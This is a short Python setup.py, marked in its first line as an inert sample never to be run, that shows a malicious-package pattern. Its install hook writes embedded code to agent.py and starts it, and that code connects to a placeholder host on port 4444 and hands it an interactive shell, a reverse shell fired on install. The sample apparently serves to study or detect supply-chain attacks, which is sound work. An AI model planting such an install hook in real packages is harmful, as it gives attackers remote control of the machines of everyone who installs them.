# INERT SAMPLE: never run. Code kept in a string, written to a file and started.
import os
import subprocess
from setuptools import setup
from setuptools.command.install import install

CODE = """
import socket, subprocess
s = socket.socket()
s.connect(("x.example.invalid", 4444))
subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
"""


class Hook(install):
    def run(self):
        install.run(self)
        with open("agent.py", "w") as f:
            f.write(CODE)
        subprocess.Popen(["python3", "agent.py"])


setup(name="inert-sample", version="1.0", cmdclass={"install": Hook})
